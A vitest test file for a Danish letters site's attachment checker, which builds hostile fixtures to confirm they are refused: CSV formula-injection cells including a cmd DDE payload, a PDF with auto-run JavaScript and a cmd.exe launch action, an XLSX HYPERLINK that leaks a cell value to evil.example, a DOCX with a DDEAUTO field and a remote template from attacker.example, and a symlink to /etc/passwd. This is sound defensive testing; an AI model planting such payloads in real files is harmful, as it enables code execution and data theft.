/**
 * The editor check on a letter's folder with real files written by libraries in the test (the
 * safety corpus, test/fixtures/safety/attachments/, holds the text-only broken cases): good files
 * pass and fill the build's text cache, an oversized file and a link are refused with the file named.
 */
import { mkdirSync, mkdtempSync, readdirSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { attachmentErrors } from '../../scripts/lib/check/attachment-files.ts';
import { formatError } from '../../src/lib/data/errors.ts';
import { displayPath } from '../../src/loaders/barometer.ts';
import { letterFiles, readAttachment } from '../../src/loaders/attachments.ts';
import { letterSchema } from '../../src/lib/content-schemas.ts';
import { fixtureFiles, FIXTURE_MARKDOWN, FIXTURE_SLUG } from '../../scripts/lib/corpus/attachment-letter.ts';
import { lockedPdf, textPdf } from '../../scripts/lib/corpus/attachment-files.ts';
import { PDFDict, PDFDocument, PDFName, PDFString } from 'pdf-lib';
import writeXlsxFile from 'write-excel-file/node';
import { docxWith, rel } from '../helpers/hostile-files.ts';

async function site(): Promise<{ content: string; folder: string; cacheDir: string }> {
  const root = mkdtempSync(join(tmpdir(), 'attachment-check-'));
  const content = join(root, 'content');
  const folder = join(content, 'letters', FIXTURE_SLUG);
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(content, 'letters', `${FIXTURE_SLUG}.md`), FIXTURE_MARKDOWN);
  for (const [name, bytes] of Object.entries(await fixtureFiles())) writeFileSync(join(folder, name), bytes);
  return { content, folder, cacheDir: join(root, 'cache') };
}

describe("the check of a letter's files", () => {
  it('accepts declared PDF, DOCX, XLSX and CSV files and caches their text for the build', async () => {
    const { content, cacheDir } = await site();
    expect(await attachmentErrors(content, { cacheDir })).toEqual([]);
    // One cached text per file (the original and five bilag), keyed by the extractor version and hash.
    expect(readdirSync(cacheDir).filter((f) => /^v\d+-(pdf|docx|xlsx|csv)-[0-9a-f]{64}\.json$/.test(f))).toHaveLength(6);
  });

  it('refuses a file over 20 MB, a PDF locked with a password and a symbolic link, naming each', async () => {
    const { content, folder, cacheDir } = await site();
    writeFileSync(join(folder, 'bilag-1.pdf'), await lockedPdf());
    // A sparse file: 20 MB and one byte without writing them.
    truncateSync(join(folder, 'bilag-4.csv'), 20_000_001);
    symlinkSync('/etc/passwd', join(folder, 'bilag-9.csv'));
    const shown = displayPath(folder);
    expect((await attachmentErrors(content, { cacheDir })).map(formatError)).toEqual([
      `${shown}/bilag-1.pdf:1:1: filen kan ikke læses: PDF'en er beskyttet med adgangskode, så teksten kan ikke læses (fik "bilag-1.pdf", forventede en PDF, der kan åbnes uden adgangskode: gem den igen som PDF fra det program, den kom fra)`,
      `${shown}/bilag-4.csv:1:1: filen er for stor til at blive udgivet (20 MB) (fik "bilag-4.csv", forventede højst 20 MB: gem en mindre udgave (fx PDF med lavere billedopløsning), eller del den i flere bilag)`,
      `${shown}/bilag-9.csv:1:1: filen er en genvej (symbolsk link) og bliver ikke udgivet: sitet udgiver kun filer, der ligger i brevets mappe (fik "bilag-9.csv", forventede selve filen i content/letters/${FIXTURE_SLUG}/)`,
    ]);
  });

  it('refuses a CSV attachment with cells a spreadsheet runs as formulas, at their line and cell', async () => {
    const { content, folder, cacheDir } = await site();
    writeFileSync(
      join(folder, 'bilag-4.csv'),
      'År;Note\r\n2008;=HYPERLINK("https://evil.example";"klik")\r\n"2009\nrettet";-2,5\r\n@SUM(1+1);+cmd|" /C calc"!A0\r\n',
    );
    const shown = displayPath(folder);
    const errors = (await attachmentErrors(content, { cacheDir })).map(formatError);
    expect(errors.map((e) => e.slice(0, e.indexOf(' ('))).map((e) => e.replace(`${shown}/`, ''))).toEqual([
      'bilag-4.csv:2:2: cellen begynder med "=", så et regneark kører den som en formel, når bilaget åbnes',
      'bilag-4.csv:5:1: cellen begynder med "@", så et regneark kører den som en formel, når bilaget åbnes',
      'bilag-4.csv:5:2: cellen begynder med "+", så et regneark kører den som en formel, når bilaget åbnes',
    ]);
    expect(errors[0]).toContain('fik "=HYPERLINK(');
  });

  it('refuses a PDF or XLSX that would run or open something by itself, and keeps ordinary links and formulas', async () => {
    const { content, folder, cacheDir } = await site();
    // A PDF with a text page, JavaScript on opening, a javascript: link, a launch action and a web link.
    const doc = await PDFDocument.load(await textPdf(['Bilag med tekst.']));
    const ctx = doc.context;
    doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
    const link = (a: PDFDict) => ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 10, 10], A: a }));
    doc
      .getPage(0)
      .node.set(
        PDFName.of('Annots'),
        ctx.obj([
          link(ctx.obj({ S: 'URI', URI: PDFString.of('javascript:alert(2)') })),
          link(ctx.obj({ S: 'Launch', F: PDFString.of('cmd.exe') })),
          link(ctx.obj({ S: 'URI', URI: PDFString.of('https://www.kk.dk/') })),
        ]),
      );
    writeFileSync(join(folder, 'bilag-1.pdf'), await doc.save({ useObjectStreams: true }));
    const sheet = (formula: string) =>
      writeXlsxFile([
        [{ value: 'Tal' }, { value: 'Sum' }],
        [{ value: 2 }, { type: 'Formula', value: formula }],
      ]).toBuffer();
    writeFileSync(join(folder, 'bilag-3.xlsx'), await sheet('HYPERLINK("https://evil.example/?x="&A2,"klik")'));
    const shown = displayPath(folder);
    expect((await attachmentErrors(content, { cacheDir })).map(formatError)).toEqual([
      `${shown}/bilag-1.pdf:1:1: bilaget indeholder JavaScript, et link til javascript: og en handling, der starter et program, som læserens program kan køre eller åbne af sig selv (fik "bilag-1.pdf", forventede en PDF uden scripts, handlinger og indlejrede filer: udskriv dokumentet til en ny PDF (»Udskriv« → »Gem som PDF«), eller gem det igen som PDF/A)`,
      `${shown}/bilag-3.xlsx:1:1: bilaget indeholder formlen HYPERLINK, som læserens program kan køre eller åbne af sig selv (fik "bilag-3.xlsx", forventede et regneark uden makroer, links til andre regneark, dataforbindelser og formler, der henter eller linker (fx HYPERLINK, WEBSERVICE), og med links kun til webadresser, mail og telefon: erstat formlen med dens værdi (»Indsæt værdier«), ret eller fjern de andre links, og gem igen som .xlsx)`,
    ]);
    // A sum is an ordinary formula.
    writeFileSync(join(folder, 'bilag-3.xlsx'), await sheet('SUM(A2:A2)'));
    expect((await attachmentErrors(content, { cacheDir })).map((e) => e.got)).toEqual(['bilag-1.pdf']);
  });

  it('refuses a DOCX with a DDE field or a remote template, and keeps one with ordinary web links', async () => {
    const { content, folder, cacheDir } = await site();
    const dde = '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "/></w:p>';
    const template = rel('rId1', 'attachedTemplate', 'http://attacker.example/skabelon.dotm');
    writeFileSync(join(folder, 'bilag-2.docx'), await docxWith({ body: dde, settingsRels: [template] }));
    const shown = displayPath(folder);
    expect((await attachmentErrors(content, { cacheDir })).map(formatError)).toEqual([
      `${shown}/bilag-2.docx:1:1: bilaget indeholder en skabelon, som hentes fra en anden fil eller adresse (attachedTemplate) og feltet DDEAUTO, der starter et andet program, som læserens program kan køre eller åbne af sig selv (fik "bilag-2.docx", forventede et Word-dokument uden makroer, felter som DDE og INCLUDEPICTURE, indlejrede objekter og skabeloner eller filer hentet udefra, og med links kun til webadresser, mail og telefon: markér al tekst (Ctrl+A), gør felterne til tekst (Ctrl+Shift+F9), slet indlejrede objekter, og gem igen som .docx (ikke .docm) – eller gem dokumentet som PDF)`,
    ]);
    writeFileSync(join(folder, 'bilag-2.docx'), await docxWith({ rels: [rel('rId90', 'hyperlink', 'https://www.kk.dk/')] }));
    expect(await attachmentErrors(content, { cacheDir })).toEqual([]);
  });

  it('reports only the files asked about (the pre-commit hook), judged against the whole folder', async () => {
    const { content, folder, cacheDir } = await site();
    writeFileSync(join(folder, 'bilag-1.pdf'), '%PDF-1.7\nafbrudt');
    writeFileSync(join(folder, 'noter.csv'), 'a;b\n');
    const only = await attachmentErrors(content, { cacheDir, only: [join(folder, 'noter.csv')] });
    expect(only.map((e) => e.got)).toEqual(['noter.csv']);
  });
});

describe('reading for the build', () => {
  it('reads the same text from the cache as fresh, and stops with the file named when one is missing', async () => {
    const { content, folder, cacheDir } = await site();
    const fresh = await readAttachment(join(folder, 'bilag-1.pdf'), 'pdf', cacheDir);
    const cached = await readAttachment(join(folder, 'bilag-1.pdf'), 'pdf', cacheDir);
    expect(cached).toEqual(fresh);
    expect(fresh.text.pages).toBe(3);

    const data = letterSchema.parse({ title: 'B', date: '2009-01-01', sagsnr: '1', attachments: [{ title: 'x', file: 'mangler.pdf' }] });
    await expect(letterFiles(content, FIXTURE_SLUG, data, cacheDir)).rejects.toThrow(
      `content/letters/${FIXTURE_SLUG}/mangler.pdf: filen findes ikke (brevet nævner den i front matter)`,
    );
  });
});
